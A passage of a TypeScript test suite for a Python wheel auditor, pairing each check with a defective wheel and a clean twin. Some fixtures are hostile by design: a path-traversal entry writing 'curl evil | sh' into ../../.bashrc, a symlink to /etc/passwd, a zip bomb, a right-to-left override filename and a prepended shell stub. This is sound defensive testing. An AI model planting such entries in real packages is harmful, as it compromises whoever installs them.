/**
 * Every check that applies to wheels, end to end: for each check id of every
 * rule whose kinds include 'wheel', one real wheel (a zip written to disk by
 * test/support/wheel-builder.ts or zip-writer.ts) that has the defect, and a
 * clean twin of the same shape without it, each audited by `auditFile` — the
 * streaming zip reader, binary parsing, the wheel model and targets, and every
 * rule, as `distaudit audit` runs them.
 *
 * The defective wheel must produce a finding of the check (naming the culprit
 * entry when there is one); the twin must produce none of that check. Which
 * fixture has which defect, at which path and under which tag, is taken from
 * the rule unit tests (test/rules/*.test.ts, test/artifact/zip-hostile.test.ts)
 * and the fixture header comments (test/fixtures/*.ts).
 *
 * elf.deserved-tag is info and present for every Linux wheel: it is asserted
 * to appear (and to be absent from a non-Linux wheel) instead of having a twin.
 * The last test fails when a wheel check has no case here.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { buildWheel, type WheelSpec } from '../support/wheel-builder.ts';
import type { ZipEntrySpec } from '../support/zip-writer.ts';
import { deflatedZeros, repointEntry } from '../artifact/zip-helpers.ts';
import { editWheel } from '../rules/wheel-context.ts';
import { wheelFixtures } from '../fixtures/wheel.ts';
import { linuxFixtures } from '../fixtures/linux.ts';
import { macosWheelFixtures } from '../fixtures/macos-wheel.ts';
import { windowsWheelFixtures } from '../fixtures/windows-wheel.ts';
import { pythonExtFixtures } from '../fixtures/python-ext.ts';
import { assertSane, auditMade, summary, testCheckTable, testTableCovers, type CheckCase, type Make } from './check-table.ts';

// ---------------------------------------------------------------------------
// Fixtures (built once per machine and cached by test/support/fixture-builder.ts)

const bytesCache = new Map<string, Buffer>();
function bytesOf(path: string | undefined): Buffer {
  if (path === undefined) throw new Error('no such fixture');
  let b = bytesCache.get(path);
  if (!b) {
    b = readFileSync(path);
    bytesCache.set(path, b);
  }
  return b;
}
const wheelFx = wheelFixtures();
const linuxFx = linuxFixtures();
const macFx = macosWheelFixtures();
const winFx = windowsWheelFixtures();
const pyFx = pythonExtFixtures();
/** test/fixtures/linux.ts */
const lx = (name: string): Buffer => bytesOf(linuxFx[name]);
/** test/fixtures/wheel.ts: ext-x86_64-glibc.so, a clean x86_64 glibc extension (PyInit__ext). */
const EXT = (): Buffer => bytesOf(wheelFx['ext-x86_64-glibc.so']);

// ---------------------------------------------------------------------------
// Wheels

const M217 = 'cp311-cp311-manylinux_2_17_x86_64';
const SO = 'demo/_ext.cpython-311-x86_64-linux-gnu.so';

/** A wheel with `demo/__init__.py` and `files`, tagged `tag`, everything else as a correct build writes it. */
function wheel(tag: string, files: WheelSpec['files'], more: Partial<WheelSpec> = {}): Make {
  return () => buildWheel({ tag, files: { 'demo/__init__.py': '', ...files }, ...more });
}

/** A correct pure wheel (py3-none-any, Root-Is-Purelib: true) with raw zip entries appended: the archive checks' base. */
function pure(extraEntries: ZipEntrySpec[] = [], files: WheelSpec['files'] = { 'demo/__init__.py': '', 'demo/core.py': 'x = 1\n' }): Make {
  return () => buildWheel({ tag: 'py3-none-any', purelib: true, files, extraEntries });
}

/** The same wheel bytes under another file name. */
function renamed(make: Make, filename: string): Make {
  return async () => ({ filename, bytes: (await make()).bytes });
}

/** The wheel's bytes transformed (cut, prefixed, patched). */
function patched(make: Make, f: (b: Buffer) => Buffer): Make {
  return async () => {
    const w = await make();
    return { filename: w.filename, bytes: f(w.bytes) };
  };
}

/** The wheel re-zipped with entries removed or replaced (RECORD left as it was). */
function edited(make: Make, edit: Parameters<typeof editWheel>[1]): Make {
  return async () => editWheel(await make(), edit);
}
const replaceEntry = (suffix: string, text: string) => (fs: { path: string; isDirectory: boolean; bytes: Buffer }[]) =>
  fs.map((f) => (f.path.endsWith(suffix) ? { ...f, bytes: Buffer.from(text) } : f));

const b64 = (algo: string, s: string | Buffer) => createHash(algo).update(s).digest('base64url');

/** The Linux chain _chain → libfoo.so.1 → libbar.so.2, bundled with RUNPATH $ORIGIN at each step (test/rules/linux-deps.test.ts). */
const CHAIN = 'demo/_chain.cpython-311-x86_64-linux-gnu.so';
const chain = (ext = 'chain-runpath.so', libfoo: string | null = 'libfoo.so.1', libbar: string | null = 'libbar.so.2') => ({
  [CHAIN]: lx(ext),
  ...(libfoo ? { 'demo.libs/libfoo.so.1': lx(libfoo) } : {}),
  ...(libbar ? { 'demo.libs/libbar.so.2': lx(libbar) } : {}),
});

/** macOS: an extension exporting PyInit_ext, delocated into .dylibs (test/rules/macos.test.ts). */
const MAC_ARM = 'cp311-cp311-macosx_11_0_arm64';
const MAC_EXT = 'demo/ext.cpython-311-darwin.so';
const MAC_DEP = 'demo/.dylibs/libdep.dylib';
const mac = (ext: string, withDep = true, dep = 'libdep.dylib') => ({
  [MAC_EXT]: bytesOf(macFx[ext as keyof typeof macFx]),
  ...(withDep ? { [MAC_DEP]: bytesOf(macFx[dep as keyof typeof macFx]) } : {}),
});

/** Windows: an extension exporting PyInit_ext (test/rules/windows.test.ts). */
const WIN = 'cp311-cp311-win_amd64';
const PYD = 'demo/ext.cp311-win_amd64.pyd';
const win = (name: string) => bytesOf(winFx[name as keyof typeof winFx]);

// ---------------------------------------------------------------------------
// The table: one defective wheel and one clean twin per check

const bomb = deflatedZeros(2 << 20);

const CASES: CheckCase[] = [
  // --- archive (src/rules/archive/archive.ts; the archives of test/artifact/zip-hostile.test.ts, inside wheels)
  {
    check: 'archive.unreadable',
    defect: 'a wheel cut off after 100 bytes (no end-of-central-directory record)',
    file: null,
    bad: patched(pure(), (b) => b.subarray(0, 100)),
    twin: 'the whole wheel',
    clean: pure(),
  },
  {
    check: 'archive.path-traversal',
    defect: 'an entry ../../.bashrc',
    file: '../../.bashrc',
    bad: pure([{ name: '../../.bashrc', data: 'curl evil | sh\n' }]),
    twin: 'the same entry at demo/bashrc.txt',
    clean: pure([{ name: 'demo/bashrc.txt', data: 'curl evil | sh\n' }]),
  },
  {
    check: 'archive.invalid-name',
    defect: 'an entry name with a right-to-left override (U+202E)',
    file: 'demo/evil\u202egnp.py',
    bad: pure([{ name: 'demo/evil\u202egnp.py', data: 'x = 1\n' }]),
    twin: 'the name without it',
    clean: pure([{ name: 'demo/evilgnp.py', data: 'x = 1\n' }]),
  },
  {
    check: 'archive.symlink',
    defect: 'a symlink entry (mode 0o120777) to /etc/passwd',
    file: 'demo/passwd',
    bad: pure([{ name: 'demo/passwd', data: '/etc/passwd', mode: 0o120777 }]),
    twin: 'a regular file with the same bytes',
    clean: pure([{ name: 'demo/passwd', data: '/etc/passwd' }]),
  },
  {
    check: 'archive.special-file',
    defect: 'a FIFO entry (mode 0o010644)',
    file: 'demo/fifo',
    bad: pure([{ name: 'demo/fifo', data: '', mode: 0o010644 }]),
    twin: 'a regular file of that name',
    clean: pure([{ name: 'demo/fifo', data: '' }]),
  },
  {
    check: 'archive.duplicate-entry',
    defect: 'demo/extra.py twice',
    file: 'demo/extra.py',
    bad: pure([{ name: 'demo/extra.py', data: 'a = 1\n' }, { name: 'demo/extra.py', data: 'a = 2\n' }]),
    twin: 'demo/extra.py and demo/extra2.py',
    clean: pure([{ name: 'demo/extra.py', data: 'a = 1\n' }, { name: 'demo/extra2.py', data: 'a = 2\n' }]),
  },
  {
    check: 'archive.case-collision',
    defect: 'demo/Module.py and demo/module.py',
    file: 'demo/module.py',
    bad: pure([{ name: 'demo/Module.py', data: 'a = 1\n' }, { name: 'demo/module.py', data: 'a = 2\n' }]),
    twin: 'demo/Module.py and demo/other.py',
    clean: pure([{ name: 'demo/Module.py', data: 'a = 1\n' }, { name: 'demo/other.py', data: 'a = 2\n' }]),
  },
  {
    check: 'archive.encrypted-entry',
    defect: 'an entry with the encryption flag (general-purpose bit 0)',
    file: 'demo/secret.so',
    bad: pure([{ name: 'demo/secret.so', data: 'ciphertext', encrypted: true }]),
    twin: 'the entry without the flag',
    clean: pure([{ name: 'demo/secret.so', data: 'ciphertext' }]),
  },
  {
    check: 'archive.unsupported-compression',
    defect: 'an entry compressed with method 12 (bzip2)',
    file: 'demo/data.bin',
    bad: pure([{ name: 'demo/data.bin', data: 'x', rawMethod: 12 }]),
    twin: 'the entry deflated',
    clean: pure([{ name: 'demo/data.bin', data: 'x' }]),
  },
  {
    check: 'archive.entry-too-large',
    defect: 'a 5000-byte entry under a 4096-byte per-entry limit',
    file: 'demo/big.bin',
    limits: { maxEntrySize: 4096 },
    bad: pure([{ name: 'demo/big.bin', data: 'x'.repeat(5000) }]),
    twin: 'a 4000-byte entry under the same limit',
    clean: pure([{ name: 'demo/big.bin', data: 'x'.repeat(4000) }]),
  },
  {
    check: 'archive.compression-ratio',
    defect: '2 MiB of zeros deflated ~1000:1 (a zip bomb)',
    file: 'demo/zeros.bin',
    bad: pure([{ name: 'demo/zeros.bin', body: bomb.body, crc: bomb.crc, declaredSize: 2 << 20 }]),
    twin: 'the same 2 MiB stored',
    clean: pure([{ name: 'demo/zeros.bin', data: Buffer.alloc(2 << 20), method: 'store' }]),
  },
  {
    check: 'archive.total-too-large',
    defect: 'three 3000-byte entries under a 7000-byte total limit',
    file: 'demo/f2.bin',
    limits: { maxTotalSize: 7000 },
    bad: pure([0, 1, 2].map((i) => ({ name: `demo/f${i}.bin`, data: Buffer.alloc(3000, 0x30 + i) }))),
    twin: 'three 1000-byte entries under the same limit',
    clean: pure([0, 1, 2].map((i) => ({ name: `demo/f${i}.bin`, data: Buffer.alloc(1000, 0x30 + i) }))),
  },
  {
    check: 'archive.too-many-entries',
    defect: '7 entries under a limit of 6',
    file: null,
    limits: { maxEntries: 6 },
    bad: pure([{ name: 'demo/a.py', data: 'a = 1\n' }, { name: 'demo/b.py', data: 'b = 1\n' }]),
    twin: '6 entries under the same limit',
    clean: pure([{ name: 'demo/a.py', data: 'a = 1\n' }]),
  },
  {
    check: 'archive.header-mismatch',
    defect: "a local header naming demo/evil.py for the central directory's demo/a.py",
    file: 'demo/a.py',
    bad: pure([{ name: 'demo/a.py', localName: 'demo/evil.py', data: 'a = 1\n' }]),
    twin: 'headers that agree',
    clean: pure([{ name: 'demo/a.py', data: 'a = 1\n' }]),
  },
  {
    check: 'archive.corrupt-entry',
    defect: 'an entry whose declared CRC-32 is wrong',
    file: 'demo/a.py',
    bad: pure([{ name: 'demo/a.py', data: 'a = 1\n', crc: 0x01020304 }]),
    twin: 'the right CRC-32',
    clean: pure([{ name: 'demo/a.py', data: 'a = 1\n' }]),
  },
  {
    check: 'archive.overlapping-entries',
    defect: "a central-directory entry pointed at another entry's local header",
    file: 'demo/b.bin',
    // Entries: demo/a.bin (offset 0), demo/__init__.py, METADATA, WHEEL, RECORD, demo/b.bin (#5).
    bad: patched(pure([{ name: 'demo/b.bin', data: 'other!!' }], { 'demo/a.bin': 'payload', 'demo/__init__.py': '' }), (b) => repointEntry(b, 5, 0)),
    twin: 'the same wheel unpatched',
    clean: pure([{ name: 'demo/b.bin', data: 'other!!' }], { 'demo/a.bin': 'payload', 'demo/__init__.py': '' }),
  },
  {
    check: 'archive.leading-data',
    defect: 'a shell stub prepended with cat',
    file: null,
    bad: patched(pure(), (b) => Buffer.concat([Buffer.from('#!/bin/sh\nexec python3 "$0"\n'), b])),
    twin: 'the wheel alone',
    clean: pure(),
  },
  {
    check: 'archive.trailing-data',
    defect: 'a script appended after the end record',
    file: null,
    bad: patched(pure(), (b) => Buffer.concat([b, Buffer.from('#!/bin/sh\necho appended\n')])),
    twin: 'the wheel alone',
    clean: pure(),
  },
  {
    check: 'archive.hidden-data',
    defect: 'a directory entry carrying 14 bytes',
    file: 'demo/dir/',
    bad: pure([{ name: 'demo/dir/', data: 'smuggled bytes', method: 'store' }]),
    twin: 'an empty directory entry',
    clean: pure([{ name: 'demo/dir/' }]),
  },

  // --- binaries (src/rules/binary/*.ts)
  {
    check: 'binary.unparsable',
    defect: 'an extension cut to 40 bytes (an ELF header that ends early)',
    file: SO,
    bad: () => buildWheel({ tag: M217, files: { 'demo/__init__.py': '', [SO]: EXT().subarray(0, 40) } }),
    twin: 'the whole extension',
    clean: wheel(M217, { [SO]: EXT() }),
  },
  {
    check: 'binary.format-mismatch',
    defect: 'an ELF extension in a win_amd64 wheel',
    file: 'demo/_ext.cp311-win_amd64.pyd',
    bad: wheel(WIN, { 'demo/_ext.cp311-win_amd64.pyd': EXT() }),
    twin: 'the PE build of the same extension',
    clean: wheel(WIN, { 'demo/_ext.cp311-win_amd64.pyd': bytesOf(wheelFx['ext-win_amd64.pyd']) }),
  },
  {
    check: 'binary.arch-mismatch',
    defect: 'an i686 extension in an x86_64 wheel',
    file: SO,
    bad: wheel(M217, { [SO]: bytesOf(wheelFx['ext-i686-glibc.so']) }),
    twin: 'the x86_64 build',
    clean: wheel(M217, { [SO]: EXT() }),
  },

  // --- wheel file name (src/rules/wheel/filename.ts)
  {
    check: 'wheel.filename-invalid',
    defect: 'a wheel named demo-1.0-any.whl (3 parts)',
    file: null,
    bad: renamed(pure(), 'demo-1.0-any.whl'),
    twin: 'demo-1.0-py3-none-any.whl',
    clean: pure(),
  },
  {
    check: 'wheel.platform-tag-unknown',
    defect: 'the misspelled tag macosx_11_0_amd64',
    file: null,
    bad: wheel('cp311-cp311-macosx_11_0_amd64', {}),
    twin: 'macosx_11_0_arm64',
    clean: wheel(MAC_ARM, {}),
  },
  {
    check: 'wheel.platform-tag-rejected-by-pypi',
    defect: 'a linux_x86_64 tag',
    file: null,
    bad: wheel('cp311-cp311-linux_x86_64', { [SO]: EXT() }),
    twin: 'manylinux_2_17_x86_64',
    clean: wheel(M217, { [SO]: EXT() }),
  },

  // --- .dist-info (src/rules/wheel/dist-info.ts)
  {
    check: 'wheel.dist-info-missing',
    defect: 'a zip without a .dist-info directory',
    file: null,
    bad: edited(pure(), (fs) => fs.filter((f) => !f.path.includes('.dist-info/'))),
    twin: 'the same zip with it',
    clean: edited(pure(), (fs) => fs),
  },
  {
    check: 'wheel.dist-info-multiple',
    defect: 'a second six-1.16.0.dist-info',
    file: null,
    bad: wheel(M217, { 'six-1.16.0.dist-info/METADATA': 'Name: six\nVersion: 1.16.0\n' }),
    twin: 'demo-1.0.dist-info alone',
    clean: wheel(M217, {}),
  },
  {
    check: 'wheel.metadata-missing',
    defect: 'METADATA removed',
    file: 'demo-1.0.dist-info/METADATA',
    bad: edited(wheel(M217, {}), (fs) => fs.filter((f) => !f.path.endsWith('/METADATA'))),
    twin: 'the same wheel re-zipped with METADATA',
    clean: edited(wheel(M217, {}), (fs) => fs),
  },
  {
    check: 'wheel.metadata-mismatch',
    defect: 'METADATA says version 1.1, the file name 1.0',
    file: 'demo-1.0.dist-info/METADATA',
    bad: wheel(M217, {}, { metadata: { version: '1.1' } }),
    twin: 'METADATA version 1.0',
    clean: wheel(M217, {}),
  },
  {
    check: 'wheel.wheel-file-missing',
    defect: 'WHEEL removed',
    file: 'demo-1.0.dist-info/WHEEL',
    bad: edited(wheel(M217, {}), (fs) => fs.filter((f) => !f.path.endsWith('/WHEEL'))),
    twin: 'the same wheel re-zipped with WHEEL',
    clean: edited(wheel(M217, {}), (fs) => fs),
  },
  {
    check: 'wheel.wheel-file-invalid',
    defect: 'WHEEL with Wheel-Version 2.0',
    file: 'demo-1.0.dist-info/WHEEL',
    bad: edited(wheel(M217, {}), replaceEntry('/WHEEL', `Wheel-Version: 2.0\nRoot-Is-Purelib: false\nTag: ${M217}\n`)),
    twin: 'the same edit with Wheel-Version 1.0',
    clean: edited(wheel(M217, {}), replaceEntry('/WHEEL', `Wheel-Version: 1.0\nRoot-Is-Purelib: false\nTag: ${M217}\n`)),
  },
  {
    check: 'wheel.tags-mismatch',
    defect: 'a cp311 wheel renamed to cp312 (WHEEL Tag: lines still cp311)',
    file: 'demo-1.0.dist-info/WHEEL',
    bad: wheel('cp312-cp312-manylinux_2_17_x86_64', {}, { wheelTags: [M217] }),
    twin: 'Tag: lines that match the file name',
    clean: wheel('cp312-cp312-manylinux_2_17_x86_64', {}),
  },

  // --- RECORD (src/rules/wheel/record.ts)
  {
    check: 'record.missing',
    defect: 'no RECORD',
    file: 'demo-1.0.dist-info/RECORD',
    bad: wheel(M217, { 'demo/a.py': 'x = 1\n', [SO]: EXT() }, { record: { omit: true } }),
    twin: 'a correct RECORD',
    clean: wheel(M217, { 'demo/a.py': 'x = 1\n', [SO]: EXT() }),
  },
  {
    check: 'record.malformed',
    defect: 'a RECORD row with two fields',
    file: 'demo-1.0.dist-info/RECORD',
    bad: wheel(M217, { 'demo/a.py': 'x = 1\n', 'demo/x.py': '' }, { record: { exclude: ['demo/x.py'], extraLines: [`demo/x.py,sha256=${b64('sha256', '')}`] } }),
    twin: 'the row with its size',
    clean: wheel(M217, { 'demo/a.py': 'x = 1\n', 'demo/x.py': '' }, { record: { exclude: ['demo/x.py'], extraLines: [`demo/x.py,sha256=${b64('sha256', '')},0`] } }),
  },
  {
    check: 'record.hash-mismatch',
    defect: "demo/a.py recorded with another file's sha256 (same size)",
    file: 'demo/a.py',
    bad: wheel(M217, { 'demo/a.py': 'x = 1\n' }, { record: { hashes: { 'demo/a.py': `sha256=${b64('sha256', 'x = 2\n')}` } } }),
    twin: 'its own sha256',
    clean: wheel(M217, { 'demo/a.py': 'x = 1\n' }),
  },
  {
    check: 'record.size-mismatch',
    defect: 'demo/a.py recorded with the right hash and size 999',
    file: 'demo/a.py',
    bad: wheel(M217, { 'demo/a.py': 'x = 1\n' }, { record: { exclude: ['demo/a.py'], extraLines: [`demo/a.py,sha256=${b64('sha256', 'x = 1\n')},999`] } }),
    twin: 'the right size, 6',
    clean: wheel(M217, { 'demo/a.py': 'x = 1\n' }, { record: { exclude: ['demo/a.py'], extraLines: [`demo/a.py,sha256=${b64('sha256', 'x = 1\n')},6`] } }),
  },
  {
    check: 'record.unlisted-file',
    defect: 'the extension module left out of RECORD',
    file: SO,
    bad: wheel(M217, { [SO]: EXT() }, { record: { exclude: [SO] } }),
    twin: 'the extension listed',
    clean: wheel(M217, { [SO]: EXT() }),
  },
  {
    check: 'record.phantom-file',
    defect: 'RECORD listing a bundled library the wheel does not have',
    file: 'demo.libs/libgone-1a2b3c4d.so.1',
    bad: wheel(M217, { [SO]: EXT() }, { record: { extraLines: ['demo.libs/libgone-1a2b3c4d.so.1,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0'] } }),
    twin: 'RECORD listing only what is there',
    clean: wheel(M217, { [SO]: EXT() }),
  },
  {
    check: 'record.weak-hash',
    defect: 'the extension hashed with sha1 in RECORD',
    file: SO,
    bad: wheel(M217, { [SO]: EXT() }, { record: { hashes: { [SO]: `sha1=${b64('sha1', EXT())}` } } }),
    twin: 'sha256',
    clean: wheel(M217, { [SO]: EXT() }),
  },
  {
    check: 'record.no-hash',
    defect: 'the extension listed in RECORD without a hash',
    file: SO,
    bad: wheel(M217, { [SO]: EXT() }, { record: { hashes: { [SO]: '' } } }),
    twin: 'with its hash',
    clean: wheel(M217, { [SO]: EXT() }),
  },

  // --- contents (src/rules/wheel/contents.ts)
  {
    check: 'wheel.purelib-with-binaries',
    defect: 'Root-Is-Purelib: true with an extension module',
    file: SO,
    bad: wheel(M217, { [SO]: EXT() }, { purelib: true }),
    twin: 'Root-Is-Purelib: false',
    clean: wheel(M217, { [SO]: EXT() }),
  },
  {
    check: 'wheel.junk-file',
    defect: 'a top-level tests/ package',
    file: 'tests/test_demo.py',
    bad: wheel(M217, { [SO]: EXT(), 'tests/test_demo.py': 'def test(): pass\n' }),
    twin: 'the tests inside the package (demo/tests/)',
    clean: wheel(M217, { [SO]: EXT(), 'demo/tests/test_demo.py': 'def test(): pass\n' }),
  },
  {
    check: 'wheel.duplicate-file',
    // Files other than native binaries are compared from 16 KiB up.
    defect: 'the same 20 KiB data file shipped twice',
    file: 'demo/data/a.bin',
    bad: wheel(M217, { [SO]: EXT(), 'demo/data/a.bin': Buffer.alloc(20 * 1024, 0x61), 'demo/data/b.bin': Buffer.alloc(20 * 1024, 0x61) }),
    twin: 'two 20 KiB data files that differ',
    clean: wheel(M217, { [SO]: EXT(), 'demo/data/a.bin': Buffer.alloc(20 * 1024, 0x61), 'demo/data/b.bin': Buffer.alloc(20 * 1024, 0x62) }),
  },
  {
    check: 'wheel.empty',
    defect: 'nothing outside .dist-info',
    file: null,
    bad: () => buildWheel({ tag: 'py3-none-any', purelib: true, files: {} }),
    twin: 'one module',
    clean: () => buildWheel({ tag: 'py3-none-any', purelib: true, files: { 'demo.py': 'x = 1\n' } }),
  },

  // --- extension file names vs tags (src/rules/wheel/extension-tag.ts)
  {
    check: 'python.extension-tag-mismatch',
    defect: 'a cp311 extension in a wheel tagged cp312',
    file: SO,
    bad: wheel('cp312-cp312-manylinux_2_17_x86_64', { [SO]: EXT() }),
    twin: 'the wheel tagged cp311',
    clean: wheel(M217, { [SO]: EXT() }),
  },

  // --- ELF (src/rules/linux/elf-checks.ts; test/rules/linux-elf.test.ts)
  {
    check: 'elf.libc-mismatch',
    defect: 'a musl extension in a manylinux wheel',
    file: 'demo/_old.cpython-311-x86_64-linux-gnu.so',
    bad: wheel(M217, { 'demo/_old.cpython-311-x86_64-linux-gnu.so': lx('ext-musl.so') }),
    twin: 'the glibc build',
    clean: wheel(M217, { 'demo/_old.cpython-311-x86_64-linux-gnu.so': lx('ext-old.so') }),
  },
  {
    check: 'elf.isa-level',
    defect: 'an extension needing x86-64-v3 under a baseline x86_64 tag',
    file: 'demo/_plain.cpython-311-x86_64-linux-gnu.so',
    bad: wheel(M217, { 'demo/_plain.cpython-311-x86_64-linux-gnu.so': lx('ext-isa-v3.so') }),
    twin: 'the baseline build',
    clean: wheel(M217, { 'demo/_plain.cpython-311-x86_64-linux-gnu.so': lx('ext-plain.so') }),
  },
  {
    check: 'elf.symbol-version-too-new',
    defect: 'GLIBC_2.34 / 2.36 symbols under manylinux_2_17',
    file: 'demo/_new.cpython-311-x86_64-linux-gnu.so',
    bad: wheel(M217, { 'demo/_new.cpython-311-x86_64-linux-gnu.so': lx('ext-new.so') }),
    twin: 'an extension needing GLIBC_2.14 at most',
    clean: wheel(M217, { 'demo/_old.cpython-311-x86_64-linux-gnu.so': lx('ext-old.so') }),
  },
  {
    check: 'elf.blacklisted-symbol',
    defect: 'a non-weak __cxa_thread_atexit_impl under manylinux_2_17',
    file: 'demo/_bl.cpython-311-x86_64-linux-gnu.so',
    bad: wheel(M217, { 'demo/_bl.cpython-311-x86_64-linux-gnu.so': lx('ext-blacklist.so') }),
    twin: 'the weak reference',
    clean: wheel(M217, { 'demo/_blw.cpython-311-x86_64-linux-gnu.so': lx('ext-blacklist-weak.so') }),
  },
  {
    check: 'elf.executable-stack',
    defect: 'PT_GNU_STACK RWE',
    file: 'demo/_plain.cpython-311-x86_64-linux-gnu.so',
    bad: wheel(M217, { 'demo/_plain.cpython-311-x86_64-linux-gnu.so': lx('ext-execstack.so') }),
    twin: 'a non-executable stack',
    clean: wheel(M217, { 'demo/_plain.cpython-311-x86_64-linux-gnu.so': lx('ext-plain.so') }),
  },

  // --- dependencies (src/rules/linux/deps.ts; test/rules/linux-deps.test.ts)
  {
    check: 'deps.missing-library',
    defect: 'the bundled chain without libbar.so.2',
    file: 'demo.libs/libfoo.so.1',
    bad: wheel(M217, chain('chain-runpath.so', 'libfoo.so.1', null)),
    twin: 'the whole chain',
    clean: wheel(M217, chain()),
  },
  {
    check: 'deps.libpython-linked',
    defect: 'NEEDED libpython3.11.so.1.0',
    file: 'demo/_embed.cpython-311-x86_64-linux-gnu.so',
    bad: wheel(M217, { 'demo/_embed.cpython-311-x86_64-linux-gnu.so': lx('ext-embed.so') }),
    twin: 'an extension not linked to libpython',
    clean: wheel(M217, { 'demo/_plain.cpython-311-x86_64-linux-gnu.so': lx('ext-plain.so') }),
  },
  {
    check: 'deps.non-portable-rpath',
    defect: 'RUNPATH /home/runner/work/demo/build/lib',
    file: CHAIN,
    bad: wheel(M217, chain('chain-abs-rpath.so')),
    twin: 'RUNPATH $ORIGIN/../demo.libs only',
    clean: wheel(M217, chain()),
  },

  // --- SONAMEs (src/rules/linux/soname.ts; test/rules/linux-soname.test.ts)
  {
    check: 'soname.needed-mismatch',
    defect: 'libfoo.so.1 bundled as a file whose SONAME is libfoo.so.1.0.0',
    file: CHAIN,
    bad: wheel(M217, chain('chain-runpath.so', 'libfoo-wrong-soname.so.1')),
    twin: 'SONAME libfoo.so.1',
    clean: wheel(M217, chain()),
  },
  {
    check: 'soname.duplicate',
    defect: 'two different libraries with SONAME libfoo.so.1',
    file: 'demo.libs/libfoo.so.1',
    bad: wheel(M217, { ...chain(), 'demo/vendor/libfoo.so.1': lx('libfoo-bare.so.1') }),
    twin: 'one libfoo.so.1',
    clean: wheel(M217, chain()),
  },
  {
    check: 'soname.unversioned-needed',
    defect: 'NEEDED libfoo.so (a development name) from the system',
    file: 'demo/_dev.cpython-311-x86_64-linux-gnu.so',
    bad: wheel(M217, { 'demo/_dev.cpython-311-x86_64-linux-gnu.so': lx('ext-dev.so') }),
    twin: 'libfoo.so bundled beside it',
    clean: wheel(M217, { 'demo/_dev.cpython-311-x86_64-linux-gnu.so': lx('ext-dev.so'), 'demo/libfoo.so': lx('libfoo-dev.so'), 'demo/libbar.so.2': lx('libbar.so.2') }),
  },
  {
    check: 'soname.not-unique',
    defect: 'libssl bundled under its common SONAME libssl.so.3',
    file: 'demo.libs/libssl.so.3',
    bad: wheel(M217, { 'demo/_ssl.cpython-311-x86_64-linux-gnu.so': lx('ext-ssl.so'), 'demo.libs/libssl.so.3': lx('libssl.so.3') }),
    twin: 'the auditwheel-renamed libssl-1a2b3c4d.so.3',
    clean: wheel(M217, { 'demo/_ssl.cpython-311-x86_64-linux-gnu.so': lx('ext-ssl-hashed.so'), 'demo.libs/libssl-1a2b3c4d.so.3': lx('libssl-1a2b3c4d.so.3') }),
  },

  // --- macOS (src/rules/macos/macos.ts; test/rules/macos.test.ts)
  {
    check: 'macos.min-os-too-new',
    defect: 'an arm64 extension built for macOS 13.0 in a macosx_11_0_arm64 wheel',
    file: MAC_EXT,
    bad: wheel(MAC_ARM, mac('ext-minos13.so')),
    twin: 'the macOS 11.0 build',
    clean: wheel(MAC_ARM, mac('ext.so')),
  },
  {
    check: 'macos.missing-min-os',
    defect: 'an x86_64 extension with neither LC_BUILD_VERSION nor LC_VERSION_MIN_MACOSX',
    file: MAC_EXT,
    bad: wheel('cp311-cp311-macosx_10_9_x86_64', mac('ext-nominos.so', true, 'libdep-x86_64.dylib')),
    twin: 'the build with LC_BUILD_VERSION 10.15 under macosx_10_15_x86_64',
    clean: wheel('cp311-cp311-macosx_10_15_x86_64', mac('ext-x86_64-1015.so', true, 'libdep-x86_64.dylib')),
  },
  {
    check: 'macos.unresolved-dependency',
    defect: '@rpath/libdep.dylib with no .dylibs/libdep.dylib in the wheel',
    file: MAC_EXT,
    bad: wheel(MAC_ARM, mac('ext.so', false)),
    twin: 'libdep.dylib delocated into .dylibs',
    clean: wheel(MAC_ARM, mac('ext.so')),
  },
  {
    check: 'macos.absolute-install-name',
    defect: 'a Homebrew install name',
    file: MAC_EXT,
    bad: wheel(MAC_ARM, mac('ext-homebrew.so', false)),
    twin: 'an @rpath install name resolved in the wheel',
    clean: wheel(MAC_ARM, mac('ext.so')),
  },
  {
    check: 'macos.non-portable-rpath',
    defect: 'LC_RPATH /usr/local/lib and libs',
    file: MAC_EXT,
    bad: wheel(MAC_ARM, mac('ext-rpaths.so')),
    twin: 'LC_RPATH @loader_path/.dylibs only',
    clean: wheel(MAC_ARM, mac('ext.so')),
  },
  {
    check: 'macos.unsigned-arm64',
    defect: 'an arm64 extension without a code signature',
    file: MAC_EXT,
    bad: wheel(MAC_ARM, mac('ext-unsigned.so')),
    twin: 'the ad-hoc signed build',
    clean: wheel(MAC_ARM, mac('ext.so')),
  },

  // --- Windows (src/rules/windows/windows.ts; test/rules/windows.test.ts)
  {
    check: 'windows.python-dll-mismatch',
    defect: 'python310.dll imported in a cp311 wheel',
    file: PYD,
    bad: wheel(WIN, { [PYD]: win('ext-py310.pyd') }),
    twin: 'python311.dll',
    clean: wheel(WIN, { [PYD]: win('ext-py311.pyd') }),
  },
  {
    check: 'windows.msvc-runtime-not-bundled',
    defect: 'msvcp140.dll and vcomp140.dll imported, not bundled',
    file: PYD,
    bad: wheel(WIN, { [PYD]: win('ext-msvcp.pyd') }),
    twin: 'both bundled beside the extension',
    clean: wheel(WIN, { [PYD]: win('ext-msvcp.pyd'), 'demo/msvcp140.dll': win('helper.dll'), 'demo/VCOMP140.DLL': win('helper.dll') }),
  },
  {
    check: 'windows.debug-runtime',
    defect: 'vcruntime140d.dll and ucrtbased.dll in a release wheel',
    file: PYD,
    bad: wheel(WIN, { [PYD]: win('ext-debug.pyd') }),
    twin: 'the release runtime',
    clean: wheel(WIN, { [PYD]: win('ext-py311.pyd') }),
  },
  {
    check: 'windows.missing-dll',
    defect: 'libfoo.dll neither a system DLL nor in the wheel',
    file: PYD,
    bad: wheel(WIN, { [PYD]: win('ext-libfoo.pyd') }),
    twin: 'libfoo.dll beside the extension',
    clean: wheel(WIN, { [PYD]: win('ext-libfoo.pyd'), 'demo/libfoo.dll': win('helper.dll') }),
  },
  {
    check: 'windows.dll-not-beside-extension',
    defect: 'libfoo.dll in demo.libs/ with no os.add_dll_directory',
    file: PYD,
    bad: wheel(WIN, { [PYD]: win('ext-libfoo.pyd'), 'demo.libs/libfoo.dll': win('helper.dll') }),
    twin: 'demo/__init__.py adding demo.libs with os.add_dll_directory',
    clean: wheel(WIN, {
      [PYD]: win('ext-libfoo.pyd'),
      'demo.libs/libfoo.dll': win('helper.dll'),
      'demo/__init__.py': 'import os\nos.add_dll_directory(os.path.join(os.path.dirname(__file__), os.pardir, "demo.libs"))\n',
    }),
  },

